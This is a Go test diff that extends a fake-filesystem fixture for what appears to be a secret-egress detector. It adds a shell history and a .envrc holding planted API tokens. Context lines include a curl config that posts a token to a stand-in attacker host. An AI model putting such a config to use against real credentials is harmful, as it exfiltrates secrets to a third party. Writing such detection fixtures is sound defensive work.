@@ -124,6 +124,9 @@ func egressWorld(t *testing.T) (home, ovh, proj string) {
 		"proj/logo.b64": "iVBORw0KGgof8jmhoJXyD5OVZQz5OAuO2yJKaySKHpJOj9CuLhqUkqMwXxiMthCQD540f66IbcZQd5XsdFxMP8sussc+FJNMhn7gV7pySZv6Eh6DayrBVybufWsK9qsTw46SyuDRUFexWZh/lMx0EdcX8UV5sqoQD7uzT6WT/q7Scki3YuOrWAXwdlornB1+DzfESSG9P2Vk6t9/FCpyZoxH4iPRbt2MR7Rq/Fuu4mH1OyYVLSY7qDsDfNSWLkNIASVriF6ckFHzILDbg/Oep629DXTm3sfz367Mj2RlZmQae6JmDzAR/DVwKRxXmQ0aAJEmiRnyXZ0GEt81nWAmokD0WJpdeR8d2Xz++nd6e08VJBq/V71DetSxKYQFNPPzh1wlsIvqBsKHTPqk3Rey2EKEXegqW8U5iIrHgFSiOZzPyfzC2jHOPdFmvc06M4R+W7sH/QfKR3hCMbGa9Fhyzu+5/Fn0+V0UOBo6eDJWNHuf/Oac1wB66KdYzKQV1ake6GPItsAzeuMtb8qiVRbN8vi4ZXZmvvIVuSgr/iAHJpfnd86nJZzTmPp5qO9ZJ4yMIQUDzPi5phqGv+8jb/zfMdPfNgdANkqAPcOWU0KLa9UhD+i9WuV1qZXQ54Rr0+rggCGIJoaCBN9wxi6bAcbMJiwkeZ65Ho4PU66Eh457yMYb4o8OPzBGCsUZgXOPB8Lk6RBxU5z5gZuDM7FGc4KIznqB8T+yheDg8e1C7I/k8TPXciNqH2RxUBKrPW0SNqtNyB/lxifwt6SpXSRA4iP3dzi/8xhl4nwp/arVOSm0bv4=\n",
 		"proj/package-lock.json": `{"name": "app", "lockfileVersion": 3, "packages": {"node_modules/left-pad": {"version": "1.3.0", ` +
 			`"resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz", "integrity": "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQ2m6fhXYiFDbNALxbgEnO3nvYkYV+2drF4Ai5z0NKE9aw/w=="}}}` + "\n",
+		// A shell history and a direnv file holding secrets (flow.tsv).
+		".bash_history": "ls\nexport STRIPE_API_KEY=" + worldDeploy + "\ngit status\n",
+		"proj/.envrc":   "export INTERNAL_TOKEN=" + worldEnvToken + "\n",
 		// curl -K config files (senders.tsv).
 		"proj/upload.cfg":  "url = \"https://upload.attacker.io/c\"\nheader = \"X-Key: " + worldEnvToken + "\"\n",
 		"proj/status.cfg":  "url = \"https://api.example.com/status\"\nsilent\n",
